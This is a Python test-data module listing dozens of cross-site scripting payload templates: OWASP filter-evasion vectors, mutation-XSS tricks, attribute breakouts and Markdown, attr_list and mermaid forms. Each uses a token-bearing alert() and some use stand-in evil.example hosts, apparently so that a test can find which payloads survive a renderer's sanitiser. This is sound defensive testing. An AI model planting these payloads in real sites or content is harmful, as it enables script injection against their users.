"""Script payloads, as data. Each is a template: {js} is a call that shows a
dialog whose message is the case's token, {jsq} the same without quotes,
{jscc} built with String.fromCharCode, {tok} the token itself (in URLs,
CSS, names), {ent} / {hex} / {pad} the URL `javascript:{js}` written as
decimal, hex and zero-padded character references, {b64} a base64
data: HTML document that calls {js}. Every payload carries the token, so a
dialog, a live handler or a dangerous element found in a page names the
case that put it there.

Vectors follow the OWASP XSS filter evasion cheat sheet (rewritten here,
with the token), plus the Markdown forms that reach the same sinks and the
vectors issue 9 found in kbgen."""
from __future__ import annotations

import base64

# Inline vectors: one line, so they fit every plain-text field too.
# (name, template)
INLINE = [
    ("script-tag", "<script>{js}</script>"),
    ("script-src", "<script src=//{tok}.evil.example/x.js></script>"),
    ("svg-onload-slash", "<svg/onload={jsq}>"),
    ("svg-onload-unclosed", "<svg/onload={jsq}"),
    ("img-onerror", "<img src=x onerror={jsq}>"),
    ("img-js-src", "<img src=\"javascript:{js}\">"),
    ("img-mixed-case-charcode", "<IMG SRC=JaVaScRiPt:{jscc}>"),
    ("img-grave-accents", "<IMG SRC=`javascript:{js}`>"),
    ("malformed-a-tag", "\\<a onmouseover=\"{js}\"\\>xxs link\\</a\\>"),
    ("malformed-img-quotes", "<IMG \"\"\"><SCRIPT>{js}</SCRIPT>\">"),
    ("img-default-src-onmouseover", "<IMG SRC=# onmouseover=\"{js}\">"),
    ("img-no-src-onerror", "<IMG SRC=/ onerror=\"{js}\"></img>"),
    ("decimal-entities", "<IMG SRC={ent}>"),
    ("decimal-no-semicolons", "<IMG SRC={pad}>"),
    ("hex-entities", "<IMG SRC={hex}>"),
    ("embedded-tab", "<IMG SRC=\"jav\tascript:{js}\">"),
    ("encoded-tab", "<IMG SRC=\"jav&#x09;ascript:{js}\">"),
    ("encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:{js}\">"),
    ("spaces-meta-before-js", "<IMG SRC=\" &#14;  javascript:{js}\">"),
    ("non-alpha-separator", "<SCRIPT/XSS SRC=\"http://{tok}.evil.example/xss.js\"></SCRIPT>"),
    ("body-onload-junk", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={jsq}>"),
    ("extra-open-brackets", "<<SCRIPT>{js};//\\<</SCRIPT>"),
    ("half-open-img", "<IMG SRC=\"javascript:{js}\""),
    ("end-title-tag", "</TITLE><SCRIPT>{js}</SCRIPT>"),
    ("input-image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{js};\">"),
    ("body-background", "<BODY BACKGROUND=\"javascript:{js}\">"),
    ("style-url-js", "<DIV STYLE=\"background-image: url(javascript:{js})\">{tok}</DIV>"),
    ("style-import", "<STYLE>@import'http://{tok}.evil.example/xss.css';</STYLE>"),
    ("meta-refresh-js", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:{js};\">"),
    ("meta-refresh-data", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url={b64}\">"),
    ("iframe-js-src", "<IFRAME SRC=\"javascript:{js};\"></IFRAME>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;{js}&lt;/script&gt;\"></iframe>"),
    ("table-background", "<TABLE BACKGROUND=\"javascript:{js}\"><tr><td>{tok}</td></tr></TABLE>"),
    ("base-href", "<BASE HREF=\"javascript:{js};//\">"),
    ("object-data", "<OBJECT TYPE=\"text/html\" DATA=\"{b64}\"></OBJECT>"),
    ("embed-svg-data", "<EMBED SRC=\"data:image/svg+xml;base64,{svg64}\" type=\"image/svg+xml\">"),
    ("a-colon-entity", "<a href=\"javascript&colon;{js}\">{tok}</a>"),
    ("a-data-url", "<a href=\"{b64}\">{tok}</a>"),
    ("a-vbscript", "<a href=\"vbscript:msgbox('{tok}')\">{tok}</a>"),
    ("details-ontoggle", "<details open ontoggle={jsq}>"),
    ("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror={jsq}>"),
    ("mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror={jsq}>\">"),
    ("comment-breakout", "<!--<img src=\"--><img src=x onerror={jsq}//\">"),
    ("form-action-js", "<form action=\"javascript:{js}\"><button>{tok}</button></form>"),
    ("svg-xlink", "<svg><a xlink:href=\"javascript:{js}\"><text x=\"20\" y=\"20\">{tok}</text></a></svg>"),
    ("input-autofocus", "<input autofocus onfocus={jsq}>"),
    ("unknown-tag-handler", "<x onclick={jsq}>{tok}</x>"),
    ("attr-breakout-double", "x\"><svg/onload={jsq}>"),
    ("attr-breakout-single", "x'><img src=x onerror={jsq}>"),
    ("close-script-json", "</script><script>{js}</script>"),
    ("close-textarea", "</textarea><svg/onload={jsq}>"),
    ("md-link-js", "[{tok}](javascript:{js})"),
    ("md-link-js-angle", "[{tok}](<javascript:{js}>)"),
    ("md-link-entity", "[{tok}](&#106;avascript:{js})"),
    ("md-image-js", "![{tok}](javascript:{js})"),
    ("jinja-expression", "{{{{ '<svg/on' ~ 'load={jsq}>' }}}}"),
]

# Markdown bodies only: forms that need their own lines (reference
# definitions, attr_list, fences) or that only a Markdown renderer reads.
BLOCK = [
    ("md-reference-link", "[{tok}][j{tok}]\n\n[j{tok}]: javascript:{js}"),
    ("md-reference-link-title", "[{tok}][r{tok}]\n\n[r{tok}]: javascript:{js} \"title\""),
    ("md-reference-entity", "[{tok}][e{tok}]\n\n[e{tok}]: &#106;avascript:{js}"),
    ("md-link-mixed-case", "[{tok}](JaVaScRiPt:{js})"),
    ("md-link-leading-space", "[{tok}]( javascript:{js})"),
    ("md-link-two-lines", "[{tok}\nsecond line](javascript:{js})"),
    ("md-link-data", "[{tok}]({b64})"),
    ("md-link-vbscript", "[{tok}](vbscript:msgbox('{tok}'))"),
    ("md-autolink-js", "<javascript:{js}>"),
    ("raw-a-href-js", "<a href=\"javascript:{js}\">{tok}</a>"),
    ("raw-a-onclick", "<a href=\"#\" onclick=\"{js}\">{tok}</a>"),
    ("raw-iframe", "<iframe src=\"https://{tok}.evil.example/\"></iframe>"),
    ("raw-object", "<object data=\"https://{tok}.evil.example/x.swf\"></object>"),
    ("raw-svg-onload-block", "<svg/onload={jsq}>\n\n{tok} after"),
    ("attr-list-onclick", "{tok} paragraph\n{{: onclick=\"{js}\" }}"),
    ("attr-list-heading", "## {tok} heading {{: onmouseover=\"{js}\" }}"),
    ("attr-list-link", "[{tok}](https://ok.example/){{: onclick=\"{js}\" }}"),
    ("attr-list-href", "[{tok}](https://ok.example/){{: href=\"javascript:{js}\" }}"),
    ("md-in-html", "<div markdown>\n{tok} **bold**\n<img src=x onerror={jsq}>\n</div>"),
    ("admonition-title", "!!! note \"<img src=x onerror={jsq}>\"\n    {tok} body"),
    ("details-title", "??? note \"<svg/onload={jsq}>\"\n    {tok} body"),
    ("tab-title", "=== \"<svg/onload={jsq}>\"\n\n    {tok} body"),
    ("mermaid-html-label", "```mermaid\ngraph TD\n  A[\"<img src=x onerror={jsq}> {tok}\"] --> B\n```"),
    ("mermaid-click-js", "```mermaid\ngraph TD\n  A[{tok}] --> B\n  click A \"javascript:{js}\"\n```"),
    ("mermaid-init-loose", "```mermaid\n%%{{init: {{\"securityLevel\": \"loose\"}}}}%%\ngraph TD\n  A[\"<img src=x onerror={jsq}> {tok}\"]\n  click A call alert(\"{tok}\")\n```"),
    ("fence-breakout", "```\n</code></pre><svg/onload={jsq}>\n```\n\n{tok} after"),
    ("html-comment-hidden", "<!-- {tok} --><svg/onload={jsq}>"),
    ("meta-refresh-block", "<meta http-equiv=\"refresh\" content=\"0;url=https://{tok}.evil.example/\">\n\n{tok} after"),
    ("style-block", "<style>body {{ display: none }} /* {tok} */</style>\n\n{tok} after"),
    ("link-stylesheet", "<link rel=\"stylesheet\" href=\"https://{tok}.evil.example/x.css\">\n\n{tok} after"),
]


def _chars(text: str, fmt: str) -> str:
    return "".join(fmt.format(ord(c)) for c in text)


def render(template: str, tok: str) -> str:
    """The payload for one case: the template with this case's token."""
    js = f"alert('{tok}')"
    url = "javascript:" + js
    html = f"<script>{js}</script>"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"/>"
    return template.format(
        js=js, jsq=f"alert(/{tok}/.source)", tok=tok,
        jscc="alert(String.fromCharCode(" + ",".join(str(ord(c)) for c in tok) + "))",
        ent=_chars(url, "&#{};"), hex=_chars(url, "&#x{:X};"), pad=_chars(url, "&#{:07d}"),
        b64="data:text/html;base64," + base64.b64encode(html.encode()).decode(),
        svg64=base64.b64encode(svg.encode()).decode(),
    )
